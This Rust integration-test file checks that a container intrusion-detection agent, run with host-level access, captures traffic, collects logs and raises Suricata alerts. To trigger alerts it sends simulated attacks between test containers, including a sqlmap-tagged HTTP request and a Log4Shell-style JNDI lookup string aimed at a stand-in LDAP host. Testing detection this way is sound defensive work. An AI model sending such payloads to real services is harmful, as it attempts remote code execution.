//! Issues 7 and 14: the container image, run the way the seed runs its
//! agent: host network, the Docker socket, the host's /proc at /host/proc,
//! and the capabilities instead of `--privileged` (see `run_agent`). The
//! CLI on the host captures through the API of the agent in the container;
//! an attack between two containers is an alert on `docker logs` naming the
//! attacker, with the built-in rules and with a mounted rules directory.

use std::process::Command;
use std::time::Duration;

use std::sync::OnceLock;

use portwarden_tests::api::pinger;
use portwarden_tests::attacks;
use portwarden_tests::logs::free_port;
use portwarden_tests::{TestContainer, docker, docker_ok, eventually, portwarden_bin, repo_root, unique_name};

/// The image, built once for the tests of this file (the debug build).
fn image() -> &'static str {
    static TAG: OnceLock<String> = OnceLock::new();
    TAG.get_or_init(|| {
        let tag = "localhost/portwarden-test:image".to_owned();
        let out = Command::new("bash")
            .arg(repo_root().join("scripts/build-image.sh"))
            .arg(&tag)
            .env("PORTWARDEN_PROFILE", "debug")
            .output()
            .expect("build-image.sh runs");
        assert!(out.status.success(), "image build failed: {}", String::from_utf8_lossy(&out.stderr));
        tag
    })
}

/// The agent's container, removed when dropped (a failed test included:
/// a leftover agent's output would be collected by the next one).
struct AgentContainer(String);

impl Drop for AgentContainer {
    fn drop(&mut self) {
        let _ = docker(&["rm", "-f", &self.0]);
    }
}

/// The agent's container as the seed runs it: host network, the Docker
/// socket, the host's /proc, and the capabilities (see below) instead of
/// `--privileged`; `volumes` besides.
fn run_agent(volumes: &[String]) -> AgentContainer {
    let name = unique_name("agent");
    let mut args: Vec<&str> = vec!["run", "-d", "--name", &name, "--net=host", "--pid=host"];
    // The seed uses --privileged; this machine's capability bounding set
    // lacks CAP_SYS_RESOURCE, so runc refuses privileged containers here
    // ("unable to apply caps"). The three capabilities the agent needs are
    // exactly what --privileged would have given it for these features.
    for cap in ["SYS_ADMIN", "SYS_PTRACE", "NET_RAW"] {
        args.extend(["--cap-add", cap]);
    }
    args.extend(["-v", "/var/run/docker.sock:/var/run/docker.sock", "-v", "/proc:/host/proc:ro"]);
    // The host's root, for pre-start attach (runc, the bundles), as deploy/docker-run.sh mounts it.
    args.extend(["-v", "/:/host:ro", "-e", "PORTWARDEN_HOST_ROOT=/host"]);
    for v in volumes {
        args.extend(["-v", v.as_str()]);
    }
    args.extend([image(), "--config", "/etc/portwarden.toml", "--log-format", "json", "run"]);
    docker_ok(&args);
    AgentContainer(name)
}

/// The agent container's stdout (records) or stderr (its own log).
fn logs(name: &str, stderr: bool) -> String {
    let out = docker(&["logs", name]);
    String::from_utf8_lossy(if stderr { &out.stderr } else { &out.stdout }).into_owned()
}

/// Waits until the agent in container `agent` has attached a capture to
/// each of `containers` (discovered them, entered their namespaces).
async fn wait_captured(agent: &str, containers: &[&TestContainer]) {
    for c in containers {
        eventually(&format!("capture of {}", c.name), Duration::from_secs(60), || {
            let attached = format!("\"container\":\"{}\"", c.id);
            logs(agent, true).lines().any(|l| l.contains("capture attached") && l.contains(&attached)).then_some(())
        })
        .await;
    }
}

/// Sends `command` from `attacker` to a victim and waits for alert `sid`
/// on the agent container's stdout, naming the attacker.
async fn alert_in_docker_logs(agent: &str, attacker: &TestContainer, sid: u64, command: &str) -> serde_json::Value {
    eventually("Suricata's engine in the image", Duration::from_secs(120), || {
        logs(agent, true).contains("Suricata engine started").then_some(())
    })
    .await;
    docker_ok(&["exec", &attacker.id, "sh", "-c", &format!("{command}; true")]);
    eventually(&format!("alert {sid} naming {} in docker logs", attacker.name), Duration::from_secs(90), || {
        // An alert on stdout is Suricata's EVE event with the container added.
        logs(agent, false).lines().filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok()).find(|e| {
            e["event_type"] == "alert"
                && e["alert"]["signature_id"] == sid
                && e["container"]["name"] == attacker.name.as_str()
        })
    })
    .await
}

/// A test directory with the agent's config (syslog and forward ports of
/// its own, `extra` appended) and a run directory shared with the host.
fn agent_dir(prefix: &str, extra: &str) -> (std::path::PathBuf, Vec<String>, u16) {
    let dir = std::env::temp_dir().join(unique_name(prefix));
    std::fs::create_dir_all(dir.join("run")).unwrap();
    let (syslog, forward) = (free_port(), free_port());
    let config = format!(
        "lock_file = \"/run/portwarden/agent.lock\"\n[logs]\nstate_dir = \"\"\n[logs.syslog]\ntcp_port = {syslog}\n\
         udp_port = {syslog}\n[logs.forward]\nport = {forward}\n[capture]\nflows = false\n[metrics]\nenabled = false\n{extra}"
    );
    std::fs::write(dir.join("portwarden.toml"), config).unwrap();
    // The API socket's directory, shared with the host as deploy/docker-run.sh does.
    let volumes = vec![
        format!("{}:/etc/portwarden.toml:ro", dir.join("portwarden.toml").display()),
        format!("{}:/run/portwarden", dir.join("run").display()),
    ];
    (dir, volumes, syslog)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_image_discovers_captures_collects_listens_and_detects() {
    let (dir, volumes, syslog) = agent_dir("image", "");
    let agent = run_agent(&volumes);
    let name = agent.0.clone();
    eventually("the agent to sync", Duration::from_secs(60), || {
        logs(&name, true).contains("runtime synced").then_some(())
    })
    .await;

    let script = format!("echo hello-from-the-image-test; httpd -p 80; {}", pinger("0.2"));
    let c = TestContainer::run_cmd("image-target", &[], &["sh", "-c", &script]);
    let attacker = TestContainer::run("image-attacker", &[]);
    wait_captured(&name, &[&c, &attacker]).await;
    // Pre-start attach runs in the image: both were captured before they ran.
    let stderr = logs(&name, true);
    for t in [&c, &attacker] {
        let attached = format!("\"container\":\"{}\"", t.id);
        assert!(
            stderr.lines().any(|l| l.contains("capture attached")
                && l.contains(&attached)
                && l.contains("\"before_start\":true")),
            "{} attached before it ran: {stderr}",
            t.name
        );
    }
    let status = Command::new("logger")
        .args(["-n", "127.0.0.1", "-P", &syslog.to_string(), "--tcp", "syslog-into-the-image"])
        .status()
        .unwrap();
    assert!(status.success());
    let records = eventually("the container's line and the syslog line", Duration::from_secs(60), || {
        let out = logs(&name, false);
        let exact = |m: &str| out.lines().any(|l| l.contains(&format!("\"message\":\"{m}\"")));
        (exact("hello-from-the-image-test") && out.contains("syslog-into-the-image")).then_some(out)
    })
    .await;
    // `portwarden capture` on the host, through the API of the agent in the
    // container: pcapng that tshark reads, on interfaces named after it.
    let file = dir.join("through-the-api.pcapng");
    let out = Command::new(portwarden_bin())
        .env("PORTWARDEN_API_SOCKET", dir.join("run/portwarden.sock"))
        .args(["capture", "--container", &c.name, "-f", "icmp", "-c", "4", "-w"])
        .arg(&file)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success() && err.contains("through the running daemon"), "{err}");
    let tshark = Command::new("tshark")
        .arg("-r")
        .arg(&file)
        .args(["-T", "fields", "-e", "frame.interface_name"])
        .output()
        .unwrap();
    let names = String::from_utf8_lossy(&tshark.stdout).into_owned();
    assert_eq!(names.lines().count(), 4, "{names}");
    assert!(names.lines().all(|n| n.contains(&c.name)), "{names}");

    // The container's own line, attributed to it. (The other image test's
    // agent, beside this one, prints records that quote the same text.)
    let parsed: Vec<serde_json::Value> = records.lines().filter_map(|l| serde_json::from_str(l).ok()).collect();
    let line = parsed.iter().find(|v| v["message"] == "hello-from-the-image-test");
    assert_eq!(line.map(|v| &v["container"]["id"]), Some(&serde_json::json!(c.id)), "{records}");
    // The agent does not collect its own output (records about records).
    // (Another test's agent may run beside it, and what it prints can name
    // this one: only a record whose container is this agent counts.)
    let own: Vec<&str> = records
        .lines()
        .filter(|l| serde_json::from_str::<serde_json::Value>(l).is_ok_and(|v| v["container"]["name"] == name.as_str()))
        .collect();
    assert!(own.is_empty(), "the agent collected its own output: {own:?}");
    // It knew itself, though it shares the host's PID namespace.
    assert!(logs(&name, true).contains("this is the agent's own container"), "{}", logs(&name, true));

    // Detection with nothing but the image: a scanner from one container
    // at another is an alert on the agent's stdout naming the scanner.
    let sqlmap = format!("timeout 5 wget -q -O /dev/null -U 'sqlmap/1.7.2#stable' http://{}/", c.ip());
    alert_in_docker_logs(&name, &attacker, 9_100_001, &sqlmap).await;
    drop(agent);
    let _ = std::fs::remove_dir_all(&dir);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_image_adds_a_mounted_rules_directory_to_the_builtin_rules() {
    let (dir, mut volumes, _) = agent_dir("image-rules", "");
    std::fs::create_dir_all(dir.join("rules")).unwrap();
    std::fs::write(
        dir.join("rules/site.rules"),
        "alert tcp any any -> any any (msg:\"site rule\"; content:\"PORTWARDEN-SITE-RULE\"; sid:9200001; rev:1;)\n\
         alert tcp any any -> any any (msg:\"broken\"; content:\"x\"; sid:9200002; no_such_keyword;)\n",
    )
    .unwrap();
    volumes.push(format!("{}:/etc/portwarden/rules:ro", dir.join("rules").display()));
    let agent = run_agent(&volumes);
    let name = agent.0.clone();
    let victim = TestContainer::run_cmd("image-rules-victim", &[], attacks::VICTIM);
    let attacker = TestContainer::run("image-rules-attacker", &[]);
    wait_captured(&name, &[&victim, &attacker]).await;
    let site = format!("echo PORTWARDEN-SITE-RULE | timeout 3 nc {} 4444", victim.ip());
    alert_in_docker_logs(&name, &attacker, 9_200_001, &site).await;
    let jndi = format!("printf '${{jndi:ldap://x.portwarden.test/a}}' | timeout 3 nc {} 4444", victim.ip());
    alert_in_docker_logs(&name, &attacker, 9_100_032, &jndi).await;
    // The broken rule is named, and status tells where the rules came from.
    assert!(logs(&name, true).contains("no_such_keyword"), "the rejected rule is named");
    let out = Command::new(portwarden_bin())
        .env("PORTWARDEN_API_SOCKET", dir.join("run/portwarden.sock"))
        .args(["status", "--json"])
        .output()
        .unwrap();
    let status: serde_json::Value = serde_json::from_slice(&out.stdout).expect("status --json");
    let sources = status["daemon"]["nids"]["rule_sources"].as_array().cloned().unwrap_or_default();
    let builtin = sources.iter().find(|s| s["builtin"] == true).expect("built-in rules listed");
    assert_eq!(builtin["rules"], attacks::builtin_sids().len() as u64, "{status}");
    let site = sources.iter().find(|s| s["path"] == "/etc/portwarden/rules/site.rules").expect("site rules listed");
    assert_eq!((site["rules"].as_u64(), site["rejected"].as_u64()), (Some(2), Some(1)), "{status}");
    drop(agent);
    let _ = std::fs::remove_dir_all(&dir);
}
